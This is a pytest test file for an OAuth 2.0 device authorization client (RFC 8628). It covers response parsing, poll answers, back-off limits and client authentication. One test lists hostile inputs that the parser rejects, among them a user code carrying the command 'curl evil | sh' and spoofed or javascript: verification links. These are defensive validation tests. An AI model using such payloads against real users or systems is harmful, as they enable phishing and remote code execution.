"""Device authorization responses and the answers to polls, in the forms in which servers send them (RFC 8628)."""

from urllib.parse import parse_qs

import pytest
from pydantic import SecretStr

from oauth_connector.api.schema.urls import is_url
from oauth_connector.oauth.client_auth.basic import BasicClient
from oauth_connector.oauth.client_auth.none import PublicClient
from oauth_connector.oauth.client_auth.post import PostClient
from oauth_connector.oauth.device_authorization import (
    LONGEST_INTERVAL,
    DeviceAuthorization,
    PollAnswer,
    build_device_request,
    next_interval,
    parse_device_response,
    read_poll_answer,
)
from oauth_connector.oauth.request_context import RequestContext
from oauth_connector.oauth.signals import Signal, Symptom
from oauth_connector.oauth.token import HTTPResponse
from oauth_connector.oauth.token_request import TokenRequestParameters
from tests.support.fake_provider import answer

CONTEXT = RequestContext(1_800_000_000.0, "https://login.example.com/token")
ENDPOINT = "https://login.example.com/device"
RFC: dict[str, object] = {  # RFC 8628 §3.2
    "device_code": "GmRhmhcxhwAzkoEqiMEg_DnyEysNkuNhszIySk9eS",
    "user_code": "WDJB-MJHT",
    "verification_uri": "https://example.com/device",
    "verification_uri_complete": "https://example.com/device?user_code=WDJB-MJHT",
    "expires_in": 1800,
    "interval": 5,
}
GOOGLE: dict[str, object] = {  # developers.google.com/identity/protocols/oauth2/limited-input-device
    "device_code": "4/4-GMMhmHCXhWEzkobqIHGG_EnNYYsAkukHspeYUk9E8",
    "user_code": "GQVQ-JKEC",
    "verification_url": "https://www.google.com/device",
    "expires_in": 1800,
    "interval": 5,
}
ENTRA: dict[str, object] = {  # learn.microsoft.com/entra/identity-platform/v2-oauth2-device-code
    "device_code": "GMMhmHCXhWEzkobqIHGG_EnNYYsAkukHspeYUk9E8",
    "user_code": "B7JH6X2KP",
    "verification_uri": "https://microsoft.com/devicelogin",
    "expires_in": "900",
    "interval": "5",
    "message": "To sign in, use a web browser to open the page",
}


@pytest.mark.parametrize(
    ("sent", "link", "complete", "lifetime", "interval"),
    [
        (RFC, "https://example.com/device", "https://example.com/device?user_code=WDJB-MJHT", 1800, 5),
        (GOOGLE, "https://www.google.com/device", None, 1800, 5),
        (ENTRA, "https://microsoft.com/devicelogin", None, 900, 5),
        ({**RFC, "interval": None}, "https://example.com/device", RFC["verification_uri_complete"], 1800, 5),
        ({**RFC, "interval": 0}, "https://example.com/device", RFC["verification_uri_complete"], 1800, 5),
        ({**RFC, "interval": 1e9}, "https://example.com/device", RFC["verification_uri_complete"], 1800, 60),
        ({**RFC, "expires_in": "soon"}, "https://example.com/device", RFC["verification_uri_complete"], 86400, 5),
        (
            {**RFC, "verification_uri_complete": "https://evil.example.com/phish"},
            "https://example.com/device",
            None,
            1800,
            5,
        ),
        (
            {**RFC, "verification_uri_complete": "http://example.com/device"},
            "https://example.com/device",
            None,
            1800,
            5,
        ),
        ({**RFC, "verification_uri_complete": "javascript:x"}, "https://example.com/device", None, 1800, 5),
    ],
)
def test_a_response_is_read(
    sent: dict[str, object], link: str, complete: str | None, lifetime: int, interval: int
) -> None:
    """Absent and absurd numbers have the defaults of RFC 8628 §3.2, and only links of HTTP are shown."""
    found = parse_device_response(answer(**sent), ENDPOINT, is_url)
    assert isinstance(found, DeviceAuthorization)
    assert found.device_code.get_secret_value() == sent["device_code"]
    assert (found.user_code, found.verification_uri, found.complete_uri) == (sent["user_code"], link, complete)
    assert (found.lifetime, found.interval) == (lifetime, interval)
    assert str(sent["device_code"]) not in repr(found)


@pytest.mark.parametrize(
    "changes",
    [
        {"device_code": None},
        {"device_code": "a b"},
        {"device_code": "x" * 5000},
        {"user_code": ""},
        {"user_code": "\x1b[31mRED"},
        {"user_code": "x" * 65},
        {"verification_uri": "javascript:alert(1)"},
        {"verification_uri": "https://example.com/\n"},
        {"verification_uri": "http://example.com/device"},
        {"verification_uri": "https://accounts.google.com@evil.example.com/device"},
        {"verification_uri": "https://[::1/device"},
        {"verification_uri": "https://example.com/\u202egnp.exe"},
        {"user_code": "AAAA; now run: curl evil | sh"},
        {"verification_uri": "https://example.com/" + "x" * 3000},
        {"verification_uri": ["https://example.com/device"]},
    ],
)
def test_what_a_user_must_not_be_shown_is_no_response(changes: dict[str, object]) -> None:
    """A code or link with control characters, of another scheme, or without bounds is not used."""
    assert parse_device_response(answer(**{**RFC, **changes}), ENDPOINT, is_url) == Signal(Symptom.NO_TOKEN, 200)


@pytest.mark.parametrize(
    ("response", "expected"),
    [
        (answer(400, error="invalid_client"), Signal(Symptom.OAUTH_ERROR, 400, "invalid_client")),
        (answer(200, error="device_flow_disabled"), Signal(Symptom.OAUTH_ERROR, 200, "device_flow_disabled")),  # GitHub
        (HTTPResponse(404, {"content-type": "text/html"}, b"<html>"), Signal(Symptom.NOT_FOUND, 404)),
        (answer(503), Signal(Symptom.UNAVAILABLE, 503)),
        (HTTPResponse(200, {}, b""), Signal(Symptom.EMPTY, 200)),
    ],
)
def test_an_error_is_that_of_a_token_endpoint(response: HTTPResponse, expected: Signal) -> None:
    """RFC 8628 §3.2: errors are those of RFC 6749 §5.2."""
    assert parse_device_response(response, ENDPOINT, is_url) == expected


@pytest.mark.parametrize(
    ("word", "expected"),
    [
        ("authorization_pending", PollAnswer.PENDING),
        ("slow_down", PollAnswer.SLOW_DOWN),
        ("access_denied", PollAnswer.DENIED),
        ("authorization_declined", PollAnswer.DENIED),  # Microsoft Entra
        ("expired_token", PollAnswer.EXPIRED),
        ("invalid_grant", None),
        (None, None),
    ],
)
def test_the_answers_to_a_poll(word: str | None, expected: PollAnswer | None) -> None:
    """Only the words of RFC 8628 §3.5, and one of Entra, are answers; all else is a failure of the request."""
    assert read_poll_answer(Signal(Symptom.OAUTH_ERROR, 400, word)) is expected


def test_slow_down_has_a_limit() -> None:
    """A server that repeats it cannot stop the polls (RFC 8628 §3.5: five seconds each time)."""
    interval = 5
    for _ in range(100):
        interval = next_interval(interval, PollAnswer.SLOW_DOWN)
    assert next_interval(5, PollAnswer.SLOW_DOWN) == 10
    assert next_interval(5, PollAnswer.PENDING) == 5
    assert interval == LONGEST_INTERVAL


def test_a_client_is_authenticated_as_at_the_token_endpoint() -> None:
    """The identifier is in the form in any case (RFC 8628 §3.1); a secret is where the method puts it."""
    parameters = TokenRequestParameters(("read", "write"), audience="https://api", resources=("urn:a", "urn:b"))
    request = build_device_request(CONTEXT, BasicClient("tv", SecretStr("s3cret")), ENDPOINT, parameters)
    form = parse_qs(request.body.decode())
    assert request.url == ENDPOINT
    assert form == {
        "client_id": ["tv"],
        "scope": ["read write"],
        "audience": ["https://api"],
        "resource": ["urn:a", "urn:b"],
    }
    assert "Authorization" in dict(request.headers)
    posted = build_device_request(CONTEXT, PostClient("tv", SecretStr("s3cret")), ENDPOINT, TokenRequestParameters())
    assert parse_qs(posted.body.decode()) == {"client_id": ["tv"], "client_secret": ["s3cret"]}
    assert posted.secrets == ("s3cret",)  # no error code may repeat it
    public = build_device_request(CONTEXT, PublicClient("tv"), ENDPOINT, TokenRequestParameters())
    assert parse_qs(public.body.decode()) == {"client_id": ["tv"]}
    assert "Authorization" not in dict(public.headers)


def test_an_endpoint_without_tls_may_name_links_without_tls() -> None:
    """It is one of the cluster administrator's own, who allows it in the settings."""
    plain = answer(**{**RFC, "verification_uri": "http://127.0.0.1:9000/device", "verification_uri_complete": None})
    found = parse_device_response(plain, "http://127.0.0.1:9000/device/auth", is_url)
    assert isinstance(found, DeviceAuthorization)
